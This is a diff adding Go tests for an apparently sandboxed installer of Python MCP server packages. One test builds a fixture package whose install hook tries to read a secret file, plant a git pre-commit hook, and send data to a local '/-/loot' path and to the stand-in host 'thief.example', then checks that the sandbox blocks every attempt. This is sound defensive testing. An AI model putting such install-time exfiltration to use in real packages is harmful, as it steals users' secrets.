@@ -1,0 +1,144 @@
+package install
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/mcp-jail/mcp-jail/internal/testkit/registry"
+	"github.com/mcp-jail/mcp-jail/packages/installed"
+	"github.com/mcp-jail/mcp-jail/packages/lockfile"
+	"github.com/mcp-jail/mcp-jail/packages/runtime"
+	"github.com/mcp-jail/mcp-jail/policy"
+)
+
+// TestPythonSource: the build of a source distribution runs its code. It does not run without
+// leave; with leave it reaches neither the user's files nor a network.
+func TestPythonSource(t *testing.T) {
+	u := newPythonUser(t)
+	secret := filepath.Join(t.TempDir(), "secret")
+	if err := os.WriteFile(secret, []byte("s3cret"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var told strings.Builder
+	u.Told = &told
+	hook := filepath.Join(filepath.Dir(secret), "hooks", "pre-commit")
+	attack := registry.Attack{Read: []string{secret}, Write: []string{hook}, Send: []string{u.site.URL + "/-/loot", "http://thief.example/"}, Report: "/nowhere/attempts"}
+	w := registry.MCPServer{Name: "built", OnInstall: &attack}.Wheel()
+	w.Requires = []string{"needed-one"}
+	u.site.Upload(w, needed)
+
+	u.fails("only a source distribution", "uvx", "built")
+	if got := registry.Attempts(told.String()); got != nil {
+		t.Errorf("without leave: %+v", got)
+	}
+	u.Scripts = true
+	r := u.install("uvx", "built")
+	if _, err := os.Stat(hook); err == nil {
+		t.Error("the hook was written")
+	}
+	for _, q := range u.site.Requests() {
+		if q.Path == "/-/loot" {
+			t.Errorf("the loot arrived: %s", q.Body)
+		}
+	}
+	at := slices.IndexFunc(r.Entry.Packages, func(p lockfile.Package) bool { return p.Path == "built" })
+	if at < 0 || r.Entry.Packages[at].Scripts != lockfile.ScriptsRun || len(r.Entry.Packages) != 2 {
+		t.Errorf("packages: %+v", r.Entry.Packages)
+	}
+	named := slices.ContainsFunc(r.Refused, func(d policy.Denial) bool { return strings.HasPrefix(d.Target, "thief.example") })
+	if got := registry.Attempts(told.String()); !named || len(got) != 4 {
+		t.Errorf("the attempts %+v are not named: %+v", got, r.Refused)
+	}
+	if got := u.talk([]string{"uvx", "built"}, about); len(got) != 1 {
+		t.Errorf("the server says %q", got)
+	}
+}
+
+// TestPythonFileHost: an index may name another host for its files.
+func TestPythonFileHost(t *testing.T) {
+	stock := registry.Stock{Wheels: []registry.Wheel{serverWheel("fixture-server")}}
+	files := registry.Start(t, stock)
+	u := newPythonUser(t)
+	stock.Base = files.URL
+	u.site.Load(stock)
+	if r := u.install("uvx", "fixture-server"); r.Refused != nil {
+		t.Errorf("refused: %+v", r.Refused)
+	}
+	if got := files.Requests(); len(got) == 0 || !strings.HasSuffix(got[len(got)-1].Path, ".whl") {
+		t.Errorf("the other host was asked for %+v", got)
+	}
+}
+
+// TestPythonIndexFailures: what the user reads when the index does not give the package.
+func TestPythonIndexFailures(t *testing.T) {
+	private := serverWheel("private")
+	private.Token = "t0ken"
+	lies := serverWheel("lies")
+	lies.Digest = strings.Repeat("0", 64)
+	future := serverWheel("future")
+	future.RequiresPython = ">=9"
+	u := newPythonUser(t, private, lies, future)
+	u.fails("is not the one that the index", "uvx", "lies")
+	u.fails("has no version for Python", "uvx", "future")
+	u.fails("refuses access", "uvx", "private")
+	t.Setenv("PIP_INDEX_URL", strings.Replace(u.site.URL, "://", "://__token__:t0ken@", 1)+"/simple")
+	u.install("uvx", "private")
+	if text, err := os.ReadFile(u.LockFile); err != nil || strings.Contains(string(text), "t0ken") {
+		t.Errorf("the lock file: %v\n%s", err, text)
+	}
+	t.Setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
+	u.fails("cannot be reached", "uvx", "fixture-server")
+}
+
+// TestPythonVersions: a tree that depends on the version of Python is installed anew when that
+// version is gone.
+func TestPythonVersions(t *testing.T) {
+	u := newPythonUser(t, serverWheel("fixture-server", "needed-one; python_version < '3.12'"), needed)
+	words := []string{"uvx", "fixture-server"}
+	first := u.install(words...).Entry
+	version, ok := strings.CutPrefix(first.Engines, "==")
+	if !ok || !strings.HasSuffix(version, ".*") {
+		t.Fatalf("engines: %q", first.Engines)
+	}
+	other := withoutPython(t, u, strings.TrimSuffix(version, ".*"))
+	if other == "" {
+		t.Skip("this machine has one version of Python with pip")
+	}
+	if _, err := u.find(words...); !errors.Is(err, installed.ErrNotInstalled) {
+		t.Fatalf("without Python %s: %v", version, err)
+	}
+	second := u.install(words...)
+	if second.Entry.Engines == first.Engines || second.Before == nil || second.Entry.Version != first.Version {
+		t.Errorf("installed with %s: %+v", other, second.Entry)
+	}
+	if got := u.talk(words, about); len(got) != 1 || !strings.Contains(got[0], other) {
+		t.Errorf("the server says %q; want Python %s", got, other)
+	}
+}
+
+// withoutPython leaves the user one Python of another version, and returns that version. It
+// returns "" if there is none with pip.
+func withoutPython(t *testing.T, u pythonUser, minor string) string {
+	t.Helper()
+	found, err := runtime.Finder{Host: &u.Host}.Find(t.Context(), runtime.Python)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, i := range found.Interpreters {
+		if !strings.HasPrefix(i.Version, "3.") || strings.HasPrefix(i.Version, minor+".") || exec.Command(i.Path, "-I", "-m", "pip", "--version").Run() != nil {
+			continue
+		}
+		dir := t.TempDir()
+		if err := os.Symlink(i.Path, filepath.Join(dir, "python3")); err != nil {
+			t.Fatal(err)
+		}
+		u.Host.Environ = append(slices.Clone(u.Host.Environ), "PATH="+dir, "PYENV_ROOT=/none", "ASDF_DATA_DIR=/none", "MISE_DATA_DIR=/none", "UV_PYTHON_INSTALL_DIR=/none")
+		return i.Version
+	}
+	return ""
+}
